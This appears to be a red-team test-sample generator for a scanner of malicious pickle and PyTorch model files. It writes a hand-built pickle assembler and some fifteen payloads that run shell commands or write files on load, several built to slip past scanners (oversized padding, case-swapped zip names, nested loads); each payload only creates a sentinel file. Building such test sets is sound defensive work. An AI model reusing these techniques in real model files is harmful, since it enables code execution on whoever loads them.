"""Our own adversarial and benign-but-tricky samples, one or more per family of issue 12.

`generate(outdir) -> list[dict]` writes the files and returns records in the format the
red-team generator uses (`redteam_samples.py`): file (relative; a folder for folder
formats), label, family, loader, what. Every malicious payload is harmless: when really
loaded it creates the file named by the environment variable RT_SENTINEL (read at
payload time) and nothing else. `fire.py` proves each one fires under its real loader.
"""

from __future__ import annotations

import io
import os
import struct
import tarfile
import zipfile

SHELL = 'touch "$RT_SENTINEL"'


# ---- a pickle assembler that can name any global (protocol 2 opcodes) ----------------------


class Glob:
    def __init__(self, module: str, name: str):
        self.module, self.name = module, name


class Call:
    def __init__(self, func, *args):
        self.func, self.args = func, args


def _emit(x, out: bytearray) -> None:
    if isinstance(x, Glob):
        out += b"c" + x.module.encode() + b"\n" + x.name.encode() + b"\n"
    elif isinstance(x, Call):
        _emit(x.func, out)
        _emit(tuple(x.args), out)
        out += b"R"
    elif x is None:
        out += b"N"
    elif x is True or x is False:
        out += b"\x88" if x else b"\x89"
    elif isinstance(x, int):
        out += b"J" + struct.pack("<i", x) if -(2**31) <= x < 2**31 else b"L%dL\n" % x
    elif isinstance(x, float):
        out += b"G" + struct.pack(">d", x)
    elif isinstance(x, str):
        raw = x.encode("utf-8")
        out += b"X" + struct.pack("<I", len(raw)) + raw
    elif isinstance(x, bytes):
        out += b"C" + bytes([len(x)]) + x if len(x) < 256 else b"B" + struct.pack("<I", len(x)) + x
    elif isinstance(x, tuple):
        out += b"("
        for v in x:
            _emit(v, out)
        out += b"t"
    elif isinstance(x, list):
        out += b"]("
        for v in x:
            _emit(v, out)
        out += b"e"
    elif isinstance(x, dict):
        out += b"}("
        for k, v in x.items():
            _emit(k, out)
            _emit(v, out)
        out += b"u"
    else:
        raise TypeError(type(x))


def pickle_of(x, prefix: bytes = b"") -> bytes:
    out = bytearray(b"\x80\x02" + prefix)
    _emit(x, out)
    return bytes(out) + b"."


def sentinel_path():
    """`os.path.expandvars('$RT_SENTINEL')`, evaluated while loading."""
    return Call(Glob("posixpath", "expandvars"), "$RT_SENTINEL")


def shell():
    return Call(Glob("os", "system"), SHELL)


# ---- containers -------------------------------------------------------------------------------


def torch_zip(data_pkl: bytes, name: str = "data.pkl", method=zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo(f"archive/{name}"), data_pkl, compress_type=method)
        z.writestr(zipfile.ZipInfo("archive/byteorder"), b"little")
        z.writestr(zipfile.ZipInfo("archive/version"), b"3\n")
    return buf.getvalue()


def torch_save(obj, **kw) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, **kw)
    return buf.getvalue()


def legacy_stack(obj_pkl: bytes, keys_pkl: bytes) -> bytes:
    import pickle
    import sys

    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    proto = pickle.dumps(1001, protocol=2)
    info = pickle.dumps(
        {
            "protocol_version": 1001,
            "little_endian": sys.byteorder == "little",
            "type_sizes": {"short": 2, "int": 4, "long": 4},
        },
        protocol=2,
    )
    return magic + proto + info + obj_pkl + keys_pkl


def tar_of(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def npy_of(descr: str, payload: bytes) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * ((64 - (10 + len(header) + 1) % 64) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


# ---- the samples ------------------------------------------------------------------------------


def malicious() -> list[tuple[str, str, str, bytes, str]]:
    """(family, file, loader, bytes, what)."""
    out = []
    handler = Glob("torch.distributed.elastic.multiprocessing.subprocess_handler", "SubprocessHandler")
    out.append(
        (
            "torch_class_starts_process",
            "subprocess_handler.pt",
            "torch.load",
            torch_zip(pickle_of(Call(handler, "/bin/sh", ("-c", SHELL), {}, None, None, 0, None))),
            "a torch class whose constructor starts a shell",
        )
    )
    code = compile("import os\nopen(os.environ['RT_SENTINEL'], 'w').close()\n", "<x>", "exec")
    fields = (
        code.co_argcount,
        code.co_posonlyargcount,
        code.co_kwonlyargcount,
        code.co_nlocals,
        code.co_stacksize,
        code.co_flags,
        code.co_code,
        code.co_consts,
        code.co_names,
        code.co_varnames,
        code.co_filename,
        code.co_name,
        code.co_qualname,
        code.co_firstlineno,
        code.co_linetable,
        code.co_exceptiontable,
        code.co_freevars,
        code.co_cellvars,
    )
    fx = "torch.fx._symbolic_trace"
    func = Call(Glob(fx, "FunctionType"), Call(Glob(fx, "CodeType"), *fields), {})
    out.append(
        (
            "reexported_code_objects",
            "fx_codetype.pkl",
            "pickle.load",
            pickle_of(Call(func)),
            "bytecode through torch.fx's re-exported CodeType/FunctionType",
        )
    )
    out.append(
        (
            "numpy_writes_files",
            "savetxt.pt",
            "torch.load",
            torch_zip(pickle_of(Call(Glob("numpy", "savetxt"), sentinel_path(), [1.0]))),
            "numpy.savetxt writes a file",
        )
    )
    out.append(
        (
            "numpy_writes_files",
            "memmap.pkl",
            "pickle.load",
            pickle_of(Call(Glob("numpy", "memmap"), sentinel_path(), "uint8", "w+", 0, (4,))),
            "numpy.memmap creates a file",
        )
    )
    expr = "Symbol('x') if __import__('os').system('touch \"$RT_SENTINEL\"') is None else 0"
    out.append(
        (
            "sympy_evaluates_strings",
            "sympify.pkl",
            "pickle.load",
            pickle_of(Call(Glob("sympy", "sympify"), expr)),
            "sympy.sympify evaluates a string",
        )
    )
    body = pickle_of(shell())[2:]  # without PROTO
    out.append(
        (
            "c_parser_only_opcodes",
            "int_hex.pkl",
            "pickle.load",
            b"\x80\x02I0x10\n0" + body,
            "INT with a hex literal before the payload",
        )
    )
    out.append(
        (
            "c_parser_only_opcodes",
            "long_hex.pkl",
            "pickle.load",
            b"\x80\x02L0x1L\n0" + body,
            "LONG 0x1L before the payload",
        )
    )
    out.append(
        (
            "c_parser_only_opcodes",
            "mark_pop.pkl",
            "pickle.load",
            b"\x80\x02(0" + body,
            "MARK then POP before the payload",
        )
    )
    keys = pickle_of(Call(Glob("os", "system"), SHELL))
    out.append(
        (
            "legacy_later_stream",
            "legacy_keys.pt",
            "torch.load",
            legacy_stack(pickle_of({"w": 1}), keys),
            "legacy stack: payload in the storage-keys pickle",
        )
    )
    out.append(
        (
            "zip_member_case",
            "data_PKL.pt",
            "torch.load",
            torch_zip(pickle_of(shell()), "data.PKL"),
            "data.PKL: torch's reader matches names case-insensitively",
        )
    )
    out.append(
        (
            "zip_deflated_pickle",
            "deflated.pt",
            "torch.load",
            torch_zip(pickle_of(shell()), method=zipfile.ZIP_DEFLATED),
            "deflated data.pkl",
        )
    )
    storages = b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR0I0\n."
    out.append(
        (
            "tar_protocol0_storages",
            "tar_storages.tar",
            "torch.load",
            tar_of([("storages", storages), ("tensors", b"I0\n."), ("pickle", b"N.")]),
            "protocol-0 pickle in a legacy tar's storages",
        )
    )
    out.append(
        (
            "npy_object_descr",
            "object.npy",
            "numpy.load",
            npy_of("<O", pickle_of(shell())),
            "an .npy whose descr is '<O' (numpy unpickles it)",
        )
    )
    pad = 300 << 20  # inflates past what a scanner reads into memory; the payload comes last
    huge = zipfile.ZipFile(buf := io.BytesIO(), "w", zipfile.ZIP_DEFLATED)
    with huge.open("archive/data.pkl", "w", force_zip64=True) as f:
        f.write(b"\x80\x02\x8e" + struct.pack("<Q", pad))  # BINBYTES8
        zero = bytes(1 << 20)
        for _ in range(pad >> 20):
            f.write(zero)
        f.write(b"0" + pickle_of(shell())[2:])
    huge.writestr("archive/version", "3\n")
    huge.close()
    out.append(
        (
            "huge_deflated_pickle",
            "huge_data_pkl.pt",
            "torch.load",
            buf.getvalue(),
            "a deflated data.pkl of 300 MB with the payload after the padding",
        )
    )
    inner = torch_zip(pickle_of(shell()))
    out.append(
        (
            "nested_load_from_bytes",
            "load_from_bytes.pt",
            "torch.load",
            torch_zip(pickle_of(Call(Glob("torch.storage", "_load_from_bytes"), inner))),
            "torch.storage._load_from_bytes runs torch.load on bytes inside",
        )
    )
    return out


def benign() -> list[tuple[str, str, str, object, str]]:
    """(family, file, loader, object to torch.save or bytes, what)."""
    import datetime
    import functools
    import inspect
    import random
    import time
    import typing
    import zoneinfo

    import numpy as np
    import torch

    out = [
        (
            "zoneinfo",
            "zoneinfo.pt",
            "torch.load",
            {"when": datetime.datetime(2024, 1, 1, tzinfo=zoneinfo.ZoneInfo("UTC"))},
            "getattr(ZoneInfo, '_unpickle')",
        ),
        (
            "numpy_rng",
            "numpy_rng.pt",
            "torch.load",
            {"rng": np.random.default_rng(1), "seq": np.random.SeedSequence(3)},
            "numpy Generator and SeedSequence",
        ),
        (
            "numpy_recarray",
            "recarray.pt",
            "torch.load",
            {"r": np.rec.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")])},
            "numpy.rec.recarray",
        ),
        (
            "typing_hints",
            "typing.pt",
            "torch.load",
            {"hint": typing.Optional[list[int]], "d": dict[str, float]},  # noqa: UP045 (the sample itself)
            "typing hints via _operator.getitem",
        ),
        (
            "torch_return_types",
            "return_types.pt",
            "torch.load",
            {"m": torch.max(torch.arange(6.0).reshape(2, 3), 1)},
            "torch.return_types.max",
        ),
        ("struct_time", "struct_time.pt", "torch.load", {"t": time.gmtime(0)}, "time.struct_time"),
        (
            "lightning_partial",
            "partial.pt",
            "torch.load",
            {"hyper_parameters": {"optimizer": functools.partial(torch.optim.AdamW, lr=1e-3)}},
            "functools.partial(torch.optim.AdamW, ...)",
        ),
        (
            "fastai_like",
            "export_like.pkl",
            "pickle.load",
            {"sig": inspect.signature(lambda a, b=2: None).replace(), "rand": random.Random(4)},
            "inspect.Signature and random.Random",
        ),
    ]
    try:
        import pandas as pd

        out.append(
            (
                "fastai_like",
                "pandas.pkl",
                "pickle.load",
                {"df": pd.DataFrame({"a": [1, 2], "b": ["x", "y"]})},
                "a pandas DataFrame",
            )
        )
    except ImportError:
        pass
    try:
        import yaml

        out.append(
            (
                "referenced_not_called",
                "yaml_loader.pt",
                "torch.load",
                {"loader": yaml.FullLoader},
                "a config holding yaml.FullLoader (never called)",
            )
        )
    except ImportError:
        pass
    return out


def generate(outdir: str) -> list[dict]:
    import pickle

    import torch

    records = []

    def put(rel, data, label, family, loader, what):
        full = os.path.join(outdir, rel)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as fh:
            fh.write(data)
        records.append(dict(file=rel, label=label, family=family, loader=loader, what=what))

    for family, name, loader, data, what in malicious():
        put(f"own/mal/{name}", data, "malicious", family, loader, what)
    for family, name, loader, obj, what in benign():
        data = pickle.dumps(obj, protocol=4) if loader == "pickle.load" else torch_save(obj)
        put(f"own/ben/{name}", data, "benign", family, loader, what)
    net = torch.nn.Sequential(torch.nn.Linear(2, 2))
    net.act = torch.tanh
    put(
        "own/ben/whole_model_tanh.pt",
        torch_save(net),
        "benign",
        "whole_model",
        "torch.load",
        "a whole model with self.act = torch.tanh",
    )
    sd = torch_save({"w": torch.arange(4.0)})
    src = zipfile.ZipFile(io.BytesIO(sd))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
    put(
        "own/ben/rezipped_deflate.pt",
        buf.getvalue(),
        "benign",
        "zip_deflate",
        "torch.load",
        "a checkpoint re-zipped with deflate",
    )
    pickled = pickle.dumps({"t": torch.arange(3.0)}, protocol=2)  # storages via _load_from_bytes
    put(
        "own/ben/plain_load_from_bytes.pkl",
        pickled,
        "benign",
        "load_from_bytes_plain",
        "pickle.load",
        "tensors pickled through torch.storage._load_from_bytes",
    )
    # Trainer folders: the verdict of the folder is the worst of its files
    for label, opt in (
        ("malicious", torch_zip(pickle_of(shell()))),
        ("benign", torch_save({"state": {}, "param_groups": [{"lr": 0.1, "params": [0]}]})),
    ):
        rel = f"own/{label[:3]}/trainer/checkpoint-10"
        put(
            f"{rel}/optimizer.pt",
            opt,
            label,
            "trainer_folder_member",
            "torch.load",
            "a Trainer checkpoint-N folder's optimizer.pt",
        )
        put(
            f"{rel}/scheduler.pt",
            torch_save({"last_epoch": 1}),
            "benign",
            "trainer_folder_member",
            "torch.load",
            "scheduler.pt",
        )
        with open(os.path.join(outdir, rel, "trainer_state.json"), "w") as fh:
            fh.write('{"global_step": 10}')
        records.append(
            dict(
                file=rel,
                label=label,
                family="trainer_folder",
                loader="folder",
                what="a Trainer checkpoint-N folder",
                folder=True,
                member="optimizer.pt",
            )
        )
    return records
